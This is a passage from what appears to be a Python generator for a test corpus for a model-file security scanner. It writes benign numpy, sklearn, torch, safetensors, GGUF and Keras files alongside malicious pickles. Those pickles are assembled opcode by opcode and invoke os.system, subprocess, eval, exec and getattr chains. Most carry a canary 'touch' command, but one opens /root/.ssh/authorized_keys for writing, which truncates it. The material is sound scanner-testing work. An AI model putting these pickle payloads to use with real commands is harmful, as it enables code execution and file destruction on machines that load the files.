#!/usr/bin/env python3
# Test corpus for `warden scan`: writes OUTDIR/benign/... (files a scanner
# must NOT flag), OUTDIR/malicious/... (one file per attack family, each must
# be flagged) and OUTDIR/manifest.json, which lists every file:
#   {"corpus": "warden-scan-corpus", "schema": 1, "payload": "...",
#    "versions": {"python": ..., "numpy": ..., ...},
#    "files": [{"path": "malicious/os-system-p0.pkl", "expect": "finding",
#               "family": "os.system", "format": "pickle",
#               "profile": null, "note": "..."}, ...]}
# `expect` is "finding" or "clean"; `format` is one of pickle, zip, npy, npz,
# joblib, torch, safetensors, gguf, keras; `profile` is, for benign pickles
# written by a framework, the `warden scan --profile` they were made for
# (torch, sklearn, numpy): clean under it and under the default profile; null
# otherwise. `note` says what is in the file.
#
# Deterministic: the only randomness is numpy's seeded generator and
# scikit-learn's random_state; zip timestamps are fixed. Same Python and
# package versions give byte-identical files (scripts/scan-corpus.sh pins them).
#
# Safety: malicious pickles are assembled opcode by opcode (or pickled from
# stand-in objects whose reduce is never called) and are NEVER unpickled here;
# their payload only writes a canary file (see PAYLOAD_CMD). They are checked
# statically with pickletools (which parses, never executes). Every benign file
# is loaded back and compared with what was written.
#
# Needs numpy, scikit-learn, joblib and safetensors (no torch, keras, h5py).
# Usage: scripts/scan-corpus.py OUTDIR    (prefer scripts/scan-corpus.sh OUTDIR)
import base64
import collections
import contextlib
import datetime
import decimal
import io
import json
import marshal
import os
import pickle
import pickletools
import shutil
import struct
import sys
import types
import zipfile
import zlib

import joblib
import numpy as np
import safetensors
import safetensors.numpy
import sklearn
from sklearn.datasets import make_classification
from sklearn.ensemble import RandomForestClassifier
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import StandardScaler

# What every malicious payload would run if someone loaded the file.
PAYLOAD_CMD = "touch /tmp/warden-scan-corpus-canary"
PAYLOAD_PY = "import os; os.system(%r)" % PAYLOAD_CMD
ZIP_TIME = (1980, 1, 1, 0, 0, 0)
ZIP_EPOCH = 315532800.0  # 1980-01-01T00:00:00Z

ENTRIES = []


def record(out, rel, expect, family, fmt, note="", profile=None):
    assert expect in ("finding", "clean")
    assert fmt in ("pickle", "zip", "npy", "npz", "joblib", "torch", "safetensors", "gguf", "keras")
    assert os.path.isfile(os.path.join(out, rel)), rel
    assert not any(e["path"] == rel for e in ENTRIES), rel
    ENTRIES.append({"path": rel, "expect": expect, "family": family, "format": fmt,
                    "profile": profile, "note": note})


def write(out, rel, data):
    path = os.path.join(out, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)
    return path


# --------------------------------------------------------------------------
# Opcode-level pickle assembler (see pickletools' opcode table).


class G:
    """A global reference: GLOBAL (protocols 0-3) or STACK_GLOBAL (4+)."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class Call:
    """fn(*args) via REDUCE."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args


class Raw:
    def __init__(self, data):
        self.data = data


class Asm:
    def __init__(self, proto, frame=None, str_op=None):
        self.proto = proto
        self.body = bytearray()
        # Protocol 4+ pickles from CPython are framed; default to that.
        self.frame = (proto >= 4) if frame is None else frame
        self.str_op = str_op  # force "S" (STRING) for protocol 0/1 text

    def op(self, b):
        self.body += b

    def glob(self, module, name):
        if self.proto >= 4:
            self.string(module)
            self.string(name)
            self.op(b"\x93")  # STACK_GLOBAL
        else:
            self.op(b"c" + module.encode() + b"\n" + name.encode() + b"\n")  # GLOBAL

    def string(self, s):
        if self.proto == 0 or self.str_op == "S":
            assert "'" not in s and "\\" not in s and "\n" not in s
            self.op(b"S'" + s.encode("ascii") + b"'\n")  # STRING (loads as str)
            return
        b = s.encode("utf-8")
        if self.proto >= 4 and len(b) < 256:
            self.op(b"\x8c" + bytes([len(b)]) + b)  # SHORT_BINUNICODE
        else:
            self.op(b"X" + struct.pack("<I", len(b)) + b)  # BINUNICODE

    def integer(self, i):
        if self.proto == 0:
            self.op(b"I%d\n" % i)
        elif 0 <= i < 256:
            self.op(b"K" + bytes([i]))
        elif 0 <= i < 65536:
            self.op(b"M" + struct.pack("<H", i))
        elif -(2**31) <= i < 2**31:
            self.op(b"J" + struct.pack("<i", i))
        else:
            n = i.to_bytes((i.bit_length() + 8) // 8, "little", signed=True)
            self.op(b"\x8a" + bytes([len(n)]) + n)  # LONG1

    def bytestring(self, b):
        if self.proto >= 3:
            if len(b) < 256:
                self.op(b"C" + bytes([len(b)]) + b)  # SHORT_BINBYTES
            else:
                self.op(b"B" + struct.pack("<I", len(b)) + b)  # BINBYTES
        else:  # what CPython does for protocols 0-2
            self.emit(Call(G("_codecs", "encode"), b.decode("latin1"), "latin1"))

    def emit(self, v):
        if isinstance(v, G):
            self.glob(v.module, v.name)
        elif isinstance(v, Call):
            self.emit(v.fn)
            self.emit(tuple(v.args))
            self.op(b"R")  # REDUCE
        elif isinstance(v, Raw):
            self.op(v.data)
        elif v is None:
            self.op(b"N")
        elif isinstance(v, bool):
            if self.proto >= 2:
                self.op(b"\x88" if v else b"\x89")
            else:
                self.op(b"I01\n" if v else b"I00\n")
        elif isinstance(v, int):
            self.integer(v)
        elif isinstance(v, str):
            self.string(v)
        elif isinstance(v, bytes):
            self.bytestring(v)
        elif isinstance(v, tuple):
            if self.proto >= 2 and len(v) <= 3:
                for x in v:
                    self.emit(x)
                self.op([b")", b"\x85", b"\x86", b"\x87"][len(v)])
            elif self.proto >= 1 and not v:
                self.op(b")")
            else:
                self.op(b"(")
                for x in v:
                    self.emit(x)
                self.op(b"t")
        elif isinstance(v, list):
            if self.proto == 0:
                self.op(b"(")
                for x in v:
                    self.emit(x)
                self.op(b"l")
            else:
                self.op(b"]")
                if v:
                    self.op(b"(")
                    for x in v:
                        self.emit(x)
                    self.op(b"e")  # APPENDS
        elif isinstance(v, dict):
            if self.proto == 0:
                self.op(b"(")
                for k, x in v.items():
                    self.emit(k)
                    self.emit(x)
                self.op(b"d")
            else:
                self.op(b"}")
                if v:
                    self.op(b"(")
                    for k, x in v.items():
                        self.emit(k)
                        self.emit(x)
                    self.op(b"u")  # SETITEMS
        else:
            raise TypeError(type(v))
        return self

    def finish(self):
        body = bytes(self.body) + b"."
        head = b"\x80" + bytes([self.proto]) if self.proto >= 2 else b""
        if self.frame:
            body = b"\x95" + struct.pack("<Q", len(body)) + body  # FRAME
        return head + body


def asm(value, proto, **kw):
    return Asm(proto, **kw).emit(value).finish()


def check_static(data, n_pickles=1):
    """Parse a pickle stream with pickletools (never executes it)."""
    f = io.BytesIO(data)
    for _ in range(n_pickles):
        pickletools.dis(f, out=io.StringIO())
    return data


def os_system(proto):
    return asm(Call(G("os", "system"), PAYLOAD_CMD), proto)


# --------------------------------------------------------------------------
# Stand-ins so CPython's own pickler writes realistic streams.


def _stub(*_a, **_k):
    raise RuntimeError("warden scan corpus stand-in: never called")


@contextlib.contextmanager
def fake_global(module, name):
    """Temporarily replace module.name by a harmless stub the pickler will
    name `module name` (so `pickle.dumps` writes e.g. GLOBAL 'os system')."""
    mod = sys.modules[module]
    old = getattr(mod, name)
    stub = types.FunctionType(_stub.__code__, {}, name)
    stub.__module__, stub.__qualname__ = module, name
    setattr(mod, name, stub)
    try:
        yield stub
    finally:
        setattr(mod, name, old)


class Evil:
    """Its reduce names fn (a stand-in or the real os.system); pickling
    never calls it."""

    def __init__(self, fn, *args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


@contextlib.contextmanager
def fixed_zip_time():
    """np.savez stamps members with the current time; pin it."""

    class T:
        def __getattr__(self, k):
            return getattr(__import__("time"), k)

        @staticmethod
        def time():
            return ZIP_EPOCH

        localtime = staticmethod(__import__("time").gmtime)

    old = zipfile.time
    zipfile.time = T()
    try:
        yield
    finally:
        zipfile.time = old


def zinfo(name, compress=zipfile.ZIP_STORED):
    zi = zipfile.ZipInfo(name, date_time=ZIP_TIME)
    zi.compress_type = compress
    zi.create_system = 3
    zi.external_attr = 0o644 << 16
    return zi


def make_zip(entries, compress=zipfile.ZIP_STORED):
    """entries: list of (name, bytes); duplicates allowed (zipfile warns)."""
    buf = io.BytesIO()
    with contextlib.ExitStack() as st:
        import warnings

        st.enter_context(warnings.catch_warnings())
        warnings.simplefilter("ignore")
        zf = st.enter_context(zipfile.ZipFile(buf, "w"))
        for name, data in entries:
            zf.writestr(zinfo(name, compress), data)
    return buf.getvalue()


# --------------------------------------------------------------------------
# Torch checkpoints without torch: fake torch / torch._utils modules.


class _FakeStorage:
    def __init__(self, key, array):
        self.key, self.array = key, array


class _FakeTensor:
    def __init__(self, storage, shape):
        self.storage, self.shape = storage, shape


@contextlib.contextmanager
def fake_torch():
    torch = types.ModuleType("torch")
    utils = types.ModuleType("torch._utils")

    class FloatStorage:
        pass

    FloatStorage.__module__ = "torch"
    FloatStorage.__qualname__ = FloatStorage.__name__ = "FloatStorage"

    def _rebuild_tensor_v2(*a):
        raise RuntimeError("stand-in")

    _rebuild_tensor_v2.__module__ = "torch._utils"
    _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
    torch.FloatStorage = FloatStorage
    torch._utils = utils
    utils._rebuild_tensor_v2 = _rebuild_tensor_v2
    saved = {k: sys.modules.get(k) for k in ("torch", "torch._utils")}
    assert saved["torch"] is None, "real torch is imported; the corpus does not need it"
    sys.modules["torch"], sys.modules["torch._utils"] = torch, utils
    try:
        yield torch
    finally:
        for k, v in saved.items():
            if v is None:
                sys.modules.pop(k, None)
            else:
                sys.modules[k] = v


def torch_pickle(obj, legacy=False):
    """Pickle a state dict as torch.save does (protocol 2, persistent ids)."""
    torch = sys.modules["torch"]

    class P(pickle.Pickler):
        def persistent_id(self, o):
            if isinstance(o, _FakeStorage):
                pid = ("storage", torch.FloatStorage, o.key, "cpu", int(o.array.size))
                return pid + (None,) if legacy else pid
            return None

        def reducer_override(self, o):
            if isinstance(o, _FakeTensor):
                shape = tuple(o.shape)
                stride = tuple(int(s) for s in np.cumprod((1,) + shape[::-1][:-1])[::-1]) if shape else ()
                return (torch._utils._rebuild_tensor_v2,
                        (o.storage, 0, shape, stride, False, collections.OrderedDict()))
            return NotImplemented

    buf = io.BytesIO()
    P(buf, protocol=2).dump(obj)
    return buf.getvalue()


def state_dict(rng):
    """A tiny Linear(4, 3) + Linear(3, 1) state dict with torch's _metadata."""
    arrays = collections.OrderedDict([
        ("fc1.weight", rng.standard_normal((3, 4)).astype("<f4")),
        ("fc1.bias", rng.standard_normal(3).astype("<f4")),
        ("fc2.weight", rng.standard_normal((1, 3)).astype("<f4")),
        ("fc2.bias", rng.standard_normal(1).astype("<f4")),
    ])
    sd = collections.OrderedDict()
    for i, (k, a) in enumerate(arrays.items()):
        sd[k] = _FakeTensor(_FakeStorage(str(i), a), a.shape)
    sd._metadata = collections.OrderedDict([("", {"version": 1}), ("fc1", {"version": 1}),
                                            ("fc2", {"version": 1})])
    return sd, arrays


def torch_zip(sd, arrays, extra=(), data_pkl=None, prefix="archive"):
    pkl = data_pkl if data_pkl is not None else torch_pickle(sd)
    entries = [(f"{prefix}/data.pkl", pkl), (f"{prefix}/byteorder", b"little")]
    for i, a in enumerate(arrays.values()):
        entries.append((f"{prefix}/data/{i}", a.tobytes()))
    entries.append((f"{prefix}/version", b"3\n"))
    entries.extend(extra)
    return make_zip(entries)


def torch_legacy(sd, arrays, state_pickle=None):
    magic = 0x1950A86A20F9469CFC6C
    out = bytearray()
    out += pickle.dumps(magic, protocol=2)
    out += pickle.dumps(1001, protocol=2)
    out += pickle.dumps({"protocol_version": 1001, "little_endian": True,
                         "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    out += state_pickle if state_pickle is not None else torch_pickle(sd, legacy=True)
    keys = [str(i) for i in range(len(arrays))]
    out += pickle.dumps(keys, protocol=2)
    for a in arrays.values():
        out += struct.pack("<q", a.size) + a.tobytes()
    return bytes(out)


class TorchCheckUnpickler(pickle.Unpickler):
    """Loads our torch-style pickles without torch (benign files only)."""

    def __init__(self, f, storages):
        super().__init__(f)
        self.storages = storages

    def find_class(self, module, name):
        if (module, name) == ("torch._utils", "_rebuild_tensor_v2"):
            def rebuild(storage, offset, size, stride, *_):
                n = int(np.prod(size)) if size else 1
                return storage[offset:offset + n].reshape(size)
            return rebuild
        if (module, name) == ("torch", "FloatStorage"):
            return "FloatStorage"
        if (module, name) == ("collections", "OrderedDict"):
            return collections.OrderedDict
        raise pickle.UnpicklingError(f"unexpected global {module}.{name}")

    def persistent_load(self, pid):
        assert pid[0] == "storage" and pid[1] == "FloatStorage" and pid[3] == "cpu"
        a = np.frombuffer(self.storages[pid[2]], dtype="<f4")
        assert a.size == pid[4]
        return a


def check_torch_zip(path, arrays):
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
        prefix = names[0].split("/")[0]
        storages = {n.rsplit("/", 1)[1]: z.read(n) for n in names if n.startswith(prefix + "/data/")}
        sd = TorchCheckUnpickler(io.BytesIO(z.read(prefix + "/data.pkl")), storages).load()
    assert list(sd) == list(arrays)
    for k, a in arrays.items():
        assert np.array_equal(sd[k], a), k


def check_torch_legacy(path, arrays):
    with open(path, "rb") as f:
        assert pickle.load(f) == 0x1950A86A20F9469CFC6C
        assert pickle.load(f) == 1001
        assert pickle.load(f)["little_endian"] is True
        state = f.read()
    # The state pickle comes first; the storages follow the keys pickle.
    f = io.BytesIO(state)
    pids = []

    class Collect(TorchCheckUnpickler):
        def persistent_load(self, pid):
            pids.append(pid)
            return np.zeros(pid[4], dtype="<f4")

    Collect(f, {}).load()
    keys = pickle.load(f)
    storages = {}
    for k in keys:
        (n,) = struct.unpack("<q", f.read(8))
        storages[k] = f.read(4 * n)
    assert f.read() == b""
    f.seek(0)
    sd = TorchCheckUnpickler(f, storages).load()
    for k, a in arrays.items():
        assert np.array_equal(sd[k], a), k
    assert len(pids) == len(arrays) and all(len(p) == 6 for p in pids)


# --------------------------------------------------------------------------
# GGUF v3 and safetensors by hand.

GGUF_U32, GGUF_STRING, GGUF_U64 = 4, 8, 10


def gguf_str(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf_file(tensors, kvs, alignment=32):
    """tensors: list of (name, float32 array); kvs: list of (key, type, value)."""
    out = bytearray(b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kvs)))
    for key, typ, val in kvs:
        out += gguf_str(key) + struct.pack("<I", typ)
        if typ == GGUF_STRING:
            out += gguf_str(val)
        elif typ == GGUF_U32:
            out += struct.pack("<I", val)
        elif typ == GGUF_U64:
            out += struct.pack("<Q", val)
        else:
            raise ValueError(typ)
    offset = 0
    blobs = []
    for name, a in tensors:
        out += gguf_str(name) + struct.pack("<I", a.ndim)
        for d in a.shape[::-1]:  # GGUF lists dims innermost first (ne[0])
            out += struct.pack("<Q", d)
        out += struct.pack("<IQ", 0, offset)  # GGML_TYPE_F32
        blob = a.astype("<f4").tobytes()
        blobs.append(blob)
        offset += len(blob)
        offset += -offset % alignment
    out += b"\0" * (-len(out) % alignment)
    for blob in blobs:
        out += blob + b"\0" * (-len(blob) % alignment)
    return bytes(out)


def parse_gguf(data):
    pos = 0

    def take(n):
        nonlocal pos
        b = data[pos:pos + n]
        assert len(b) == n
        pos += n
        return b

    def u(fmt):
        return struct.unpack("<" + fmt, take(struct.calcsize(fmt)))[0]

    def s():
        return take(u("Q")).decode()

    assert take(4) == b"GGUF" and u("I") == 3
    nt, nkv = u("Q"), u("Q")
    kv = {}
    for _ in range(nkv):
        k, t = s(), u("I")
        kv[k] = s() if t == GGUF_STRING else u({GGUF_U32: "I", GGUF_U64: "Q"}[t])
    infos = []
    for _ in range(nt):
        name, nd = s(), u("I")
        dims = [u("Q") for _ in range(nd)]
        typ, off = u("I"), u("Q")
        infos.append((name, dims[::-1], typ, off))
    align = kv.get("general.alignment", 32)
    base = pos + (-pos % align)
    out = {}
    for name, shape, typ, off in infos:
        assert typ == 0 and off % align == 0
        n = int(np.prod(shape))
        out[name] = np.frombuffer(data, "<f4", n, base + off).reshape(shape)
    return kv, out


def safetensors_raw(header, data, header_len=None):
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    n = len(h) if header_len is None else header_len
    return struct.pack("<Q", n) + h + data


# --------------------------------------------------------------------------
# Keras v3 archives by hand.


def keras_layer(class_name, config, build_input=None):
    layer = {"module": "keras.layers", "class_name": class_name, "config": config,
             "registered_name": None}
    if build_input is not None:
        layer["build_config"] = {"input_shape": build_input}
    return layer


def dense(name, units, activation, n_in):
    dtype = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"},
             "registered_name": None}

    def init(cls, cfg):
        return {"module": "keras.initializers", "class_name": cls, "config": cfg,
                "registered_name": None}

    return keras_layer("Dense", {
        "name": name, "trainable": True, "dtype": dtype, "units": units,
        "activation": activation, "use_bias": True,
        "kernel_initializer": init("GlorotUniform", {"seed": None}),
        "bias_initializer": init("Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None,
        "kernel_constraint": None, "bias_constraint": None}, [None, n_in])


def keras_archive(layers):
    config = {"module": "keras", "class_name": "Sequential",
              "config": {"name": "sequential", "trainable": True,
                         "dtype": {"module": "keras", "class_name": "DTypePolicy",
                                   "config": {"name": "float32"}, "registered_name": None},
                         "layers": [keras_layer("InputLayer", {
                             "batch_shape": [None, 4], "dtype": "float32", "sparse": False,
                             "name": "input_layer"})] + layers},
              "registered_name": None, "build_config": {"input_shape": [None, 4]},
              "compile_config": None}
    meta = {"keras_version": "3.6.0", "date_saved": "2024-01-01@00:00:00"}
    return make_zip([
        ("metadata.json", json.dumps(meta).encode()),
        ("config.json", json.dumps(config).encode()),
        ("model.weights.h5", b""),
    ], zipfile.ZIP_DEFLATED)


# --------------------------------------------------------------------------
# Benign files.


def gen_benign(out):
    rng = np.random.default_rng(20240601)
    b = "benign/"

    # numpy arrays through pickle, every protocol.
    arr = rng.standard_normal((8, 5)).astype(np.float32)
    for p in range(6):
        rel = f"{b}numpy/ndarray-p{p}.pkl"
        write(out, rel, pickle.dumps(arr, protocol=p))
        note = ("protocol 5, in-band PickleBuffer (numpy._core.numeric._frombuffer, BYTEARRAY8)"
                if p == 5 else f"pickle protocol {p}")
        record(out, rel, "clean", "numpy-ndarray", "pickle", note, "numpy")
    arrays = {"w": arr, "b": rng.integers(-5, 5, 16).astype(np.int64),
              "mask": np.arange(10) % 3 == 0, "c": (arr[:2, :2] + 1j).astype(np.complex64)}
    write(out, f"{b}numpy/arrays-dict-p5.pkl", pickle.dumps(arrays, protocol=5))
    record(out, f"{b}numpy/arrays-dict-p5.pkl", "clean", "numpy-ndarray", "pickle",
           "dict of float32/int64/bool/complex64 arrays, protocol 5", "numpy")
    # numpy 1.x names its reconstructor numpy.core.multiarray (text GLOBAL in protocol 2).
    legacy = pickle.dumps(arr, protocol=2).replace(b"cnumpy._core.multiarray\n", b"cnumpy.core.multiarray\n")
    assert b"cnumpy.core.multiarray\n_reconstruct" in legacy
    write(out, f"{b}numpy/ndarray-numpy1-core-p2.pkl", legacy)
    record(out, f"{b}numpy/ndarray-numpy1-core-p2.pkl", "clean", "numpy-ndarray", "pickle",
           "numpy 1.x global numpy.core.multiarray._reconstruct", "numpy")
    scalars = {"f64": np.float64(1.5), "i32": np.int32(7), "b": np.bool_(True),
               "f16": np.float16(0.25), "dt": np.dtype("<f8")}
    write(out, f"{b}numpy/scalars-p4.pkl", pickle.dumps(scalars, protocol=4))
    record(out, f"{b}numpy/scalars-p4.pkl", "clean", "numpy-scalar", "pickle",
           "numpy scalars (numpy._core.multiarray.scalar) and a dtype", "numpy")

    npys = {"float32.npy": arr, "int64.npy": arrays["b"],
            "float64-fortran.npy": np.asfortranarray(rng.standard_normal((4, 6))),
            "uint8-3d.npy": rng.integers(0, 255, (2, 3, 4)).astype(np.uint8),
            "bool.npy": arrays["mask"]}
    for name, a in npys.items():
        bio = io.BytesIO()
        np.save(bio, a, allow_pickle=False)
        write(out, f"{b}npy/{name}", bio.getvalue())
        record(out, f"{b}npy/{name}", "clean", "npy-numeric", "npy", f"np.save {a.dtype} {a.shape}")
    with fixed_zip_time():
        for name, fn in (("arrays.npz", np.savez), ("arrays-compressed.npz", np.savez_compressed)):
            bio = io.BytesIO()
            fn(bio, w=arr, b=arrays["b"], mask=arrays["mask"])
            write(out, f"{b}npz/{name}", bio.getvalue())
            record(out, f"{b}npz/{name}", "clean", "npz-numeric", "npz", fn.__name__)

    # scikit-learn, joblib.
    X, y = make_classification(n_samples=200, n_features=6, n_informative=4, random_state=0)
    models = {
        "logreg": LogisticRegression(max_iter=200).fit(X, y),
        "pipeline": Pipeline([("scale", StandardScaler()),
                              ("clf", LogisticRegression(max_iter=200))]).fit(X, y),
        "forest": RandomForestClassifier(n_estimators=4, max_depth=3, random_state=0,
                                         n_jobs=1).fit(X, y),
    }
    expected = {k: m.predict_proba(X) for k, m in models.items()}
    for k, m in models.items():
        for c in (0, 3):
            rel = f"{b}sklearn/{k}{'-z3' if c else ''}.joblib"
            os.makedirs(os.path.join(out, b, "sklearn"), exist_ok=True)
            joblib.dump(m, os.path.join(out, rel), compress=c)
            record(out, rel, "clean", f"sklearn-{k}", "joblib",
                   f"joblib.dump compress={c}{' (zlib)' if c else ''}", "sklearn")
        rel = f"{b}sklearn/{k}.pkl"
        write(out, rel, pickle.dumps(m, protocol=pickle.DEFAULT_PROTOCOL))
        record(out, rel, "clean", f"sklearn-{k}", "pickle",
               f"pickle.dumps protocol {pickle.DEFAULT_PROTOCOL}", "sklearn")

    # Torch checkpoints (zip and legacy) without torch.
    with fake_torch():
        sd, tarrays = state_dict(rng)
        write(out, f"{b}torch/state-dict.pt", torch_zip(sd, tarrays))
        write(out, f"{b}torch/state-dict-legacy.pt", torch_legacy(sd, tarrays))
    record(out, f"{b}torch/state-dict.pt", "clean", "torch-state-dict", "torch",
           "torch.save zip layout: archive/data.pkl, data/N, version, byteorder", "torch")
    record(out, f"{b}torch/state-dict-legacy.pt", "clean", "torch-state-dict", "torch",
           "legacy torch.save: magic, protocol, sys_info, state, storage keys, storages", "torch")

    # Plain containers and value types.
    values = {
        "dict": {"a": 1, "b": [1.5, None, True]}, "list": [1, "two", 3.0],
        "tuple": (1, 2, (3, 4)), "set": {1, 2, 3}, "frozenset": frozenset({4, 5}),
        "ordered": collections.OrderedDict([("x", 1), ("y", 2)]),
        "defaultdict": collections.defaultdict(list, {"k": [1, 2]}),
        "datetime": datetime.datetime(2024, 5, 17, 12, 30, 5, 123456),
        "date": datetime.date(2024, 5, 17), "delta": datetime.timedelta(days=1, seconds=5),
        "decimal": decimal.Decimal("3.14159"), "complex": complex(1.5, -2.0),
        "bytearray": bytearray(b"\x00\x01\xffraw"), "bytes": b"\x00bytes\xff",
        "big": 2**80, "neg": -12345678901, "text": "unicode \u00e9\u4e2d", "none": None,
    }
    for p in (0, 2, 4, 5):
        rel = f"{b}pickle/containers-p{p}.pkl"
        write(out, rel, pickle.dumps(values, protocol=p))
        record(out, rel, "clean", "containers", "pickle",
               f"dict/list/tuple/set/frozenset/OrderedDict/defaultdict(list)/datetime/"
               f"Decimal/complex/bytearray/bytes, protocol {p}")
    write(out, f"{b}pickle/bytes-p2.pkl", pickle.dumps(b"\x00\x01 protocol-2 bytes \xfe", protocol=2))
    record(out, f"{b}pickle/bytes-p2.pkl", "clean", "containers", "pickle",
           "bytes in protocol 2 are _codecs.encode(str, 'latin1')")

    # safetensors (library), GGUF and Keras (by hand).
    st = {"embed.weight": rng.standard_normal((16, 8)).astype(np.float32),
          "embed.bias": np.zeros(8, np.float16), "steps": np.array([3], np.int64)}
    path = os.path.join(out, b, "safetensors")
    os.makedirs(path, exist_ok=True)
    safetensors.numpy.save_file(st, os.path.join(path, "model.safetensors"), metadata={"format": "np"})
    record(out, f"{b}safetensors/model.safetensors", "clean", "safetensors", "safetensors",
           "safetensors.numpy.save_file F32/F16/I64")
    gg = {"token_embd.weight": rng.standard_normal((6, 4)).astype(np.float32),
          "output_norm.weight": np.ones(4, np.float32)}
    write(out, f"{b}gguf/model.gguf", gguf_file(list(gg.items()), [
        ("general.architecture", GGUF_STRING, "llama"), ("general.name", GGUF_STRING, "warden-corpus"),
        ("general.alignment", GGUF_U32, 32), ("llama.context_length", GGUF_U64, 128)]))
    record(out, f"{b}gguf/model.gguf", "clean", "gguf", "gguf", "hand-written GGUF v3, two F32 tensors")
    write(out, f"{b}keras/model.keras", keras_archive([dense("dense", 8, "relu", 4),
                                                      dense("dense_1", 1, "sigmoid", 8)]))
    record(out, f"{b}keras/model.keras", "clean", "keras-dense", "keras",
           "Keras v3 zip: config.json (InputLayer, Dense x2), metadata.json, empty model.weights.h5")

    # Load everything back (these are our own benign files).
    def check(rel):
        return os.path.join(out, rel)

    for p in range(6):
        with open(check(f"{b}numpy/ndarray-p{p}.pkl"), "rb") as f:
            assert np.array_equal(pickle.load(f), arr)
    with open(check(f"{b}numpy/arrays-dict-p5.pkl"), "rb") as f:
        got = pickle.load(f)
        assert all(np.array_equal(got[k], v) for k, v in arrays.items())
    with open(check(f"{b}numpy/ndarray-numpy1-core-p2.pkl"), "rb") as f:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            assert np.array_equal(pickle.load(f), arr)
    with open(check(f"{b}numpy/scalars-p4.pkl"), "rb") as f:
        assert pickle.load(f) == scalars
    for name, a in npys.items():
        got = np.load(check(f"{b}npy/{name}"), allow_pickle=False)
        assert got.dtype == a.dtype and np.array_equal(got, a), name
    for name in ("arrays.npz", "arrays-compressed.npz"):
        with np.load(check(f"{b}npz/{name}"), allow_pickle=False) as z:
            assert np.array_equal(z["w"], arr) and np.array_equal(z["mask"], arrays["mask"])
    for k in models:
        for suffix in (".joblib", "-z3.joblib", ".pkl"):
            p = check(f"{b}sklearn/{k}{suffix}")
            m = joblib.load(p) if suffix.endswith("joblib") else pickle.load(open(p, "rb"))
            assert np.allclose(m.predict_proba(X), expected[k]), (k, suffix)
    check_torch_zip(check(f"{b}torch/state-dict.pt"), tarrays)
    check_torch_legacy(check(f"{b}torch/state-dict-legacy.pt"), tarrays)
    for p in (0, 2, 4, 5):
        with open(check(f"{b}pickle/containers-p{p}.pkl"), "rb") as f:
            got = pickle.load(f)
            assert got == values and type(got["defaultdict"]) is collections.defaultdict
    assert pickle.loads(open(check(f"{b}pickle/bytes-p2.pkl"), "rb").read()).startswith(b"\x00\x01")
    got = safetensors.numpy.load_file(check(f"{b}safetensors/model.safetensors"))
    assert all(np.array_equal(got[k], v) for k, v in st.items())
    kv, got = parse_gguf(open(check(f"{b}gguf/model.gguf"), "rb").read())
    assert kv["general.name"] == "warden-corpus" and all(np.array_equal(got[k], v) for k, v in gg.items())
    with zipfile.ZipFile(check(f"{b}keras/model.keras")) as z:
        cfg = json.loads(z.read("config.json"))
        assert [l["class_name"] for l in cfg["config"]["layers"]] == ["InputLayer", "Dense", "Dense"]
        assert z.testzip() is None


# --------------------------------------------------------------------------
# Malicious files.


def gen_malicious(out):
    rng = np.random.default_rng(7)
    m = "malicious/"
    C = PAYLOAD_CMD
    sh = ["sh", "-c", C]

    def pk(rel, data, family, note="", n_pickles=1):
        check_static(data, n_pickles)
        write(out, m + rel, data)
        record(out, m + rel, "finding", family, "pickle", note)

    def call_pk(rel, value, proto, family, note="", **kw):
        pk(rel, asm(value, proto, **kw), family, note or f"protocol {proto}")

    # os.system via REDUCE in three protocols; protocol 0 has no PROTO opcode.
    pk("os-system-p0.pkl", asm(Call(G("os", "system"), C), 0, str_op="S"), "os.system",
       "protocol 0: GLOBAL + STRING + TUPLE + REDUCE, no PROTO")
    pk("os-system-p2.pkl", os_system(2), "os.system", "protocol 2: GLOBAL + REDUCE")
    pk("os-system-p4.pkl", os_system(4), "os.system", "protocol 4: FRAME, STACK_GLOBAL + REDUCE")
    call_pk("posix-system.pkl", Call(G("posix", "system"), C), 2, "posix.system")
    call_pk("nt-system.pkl", Call(G("nt", "system"), C), 2, "nt.system")
    # What CPython's own pickler writes for os.system on Linux.
    pk("posix-system-pickler.pkl", pickle.dumps(Evil(os.system, C), protocol=4), "posix.system",
       "pickle.dumps of an object whose __reduce__ returns os.system (written as posix.system)")
    call_pk("subprocess-popen.pkl", Call(G("subprocess", "Popen"), sh), 4, "subprocess.Popen")
    call_pk("subprocess-check-output.pkl", Call(G("subprocess", "check_output"), sh), 4,
            "subprocess.check_output")

    # builtins.
    call_pk("builtins-eval.pkl", Call(G("builtins", "eval"), f"__import__('os').system({C!r})"), 2,
            "builtins.eval")
    call_pk("builtins-exec.pkl", Call(G("builtins", "exec"), PAYLOAD_PY), 4, "builtins.exec")
    call_pk("builtins-compile.pkl", Call(G("builtins", "compile"), PAYLOAD_PY, "<corpus>", "exec"), 4,
            "builtins.compile")
    call_pk("builtins-import.pkl", Call(G("builtins", "__import__"), "os"), 2, "builtins.__import__")
    call_pk("builtins-getattr.pkl",
            Call(Call(G("builtins", "getattr"), Call(G("builtins", "__import__"), "os"), "system"), C), 2,
            "builtins.getattr", "getattr(__import__('os'), 'system')(cmd)")
    call_pk("builtins-getattr-chain.pkl",
            Call(Call(G("builtins", "getattr"),
                      Call(Call(G("builtins", "getattr"), G("sys", "modules"), "get"), "os"), "system"), C),
            4, "builtins.getattr",
            "getattr(getattr(sys.modules, 'get')('os'), 'system')(cmd): no os global at all")
    call_pk("builtins-open.pkl", Call(G("builtins", "open"), "/root/.ssh/authorized_keys", "w"), 2,
            "builtins.open", "truncates a file")
    call_pk("py2-builtin-eval.pkl", Call(G("__builtin__", "eval"), f"__import__('os').system({C!r})"), 2,
            "builtins.eval", "Python 2 module name __builtin__ (mapped to builtins on load)")

    # Code runners.
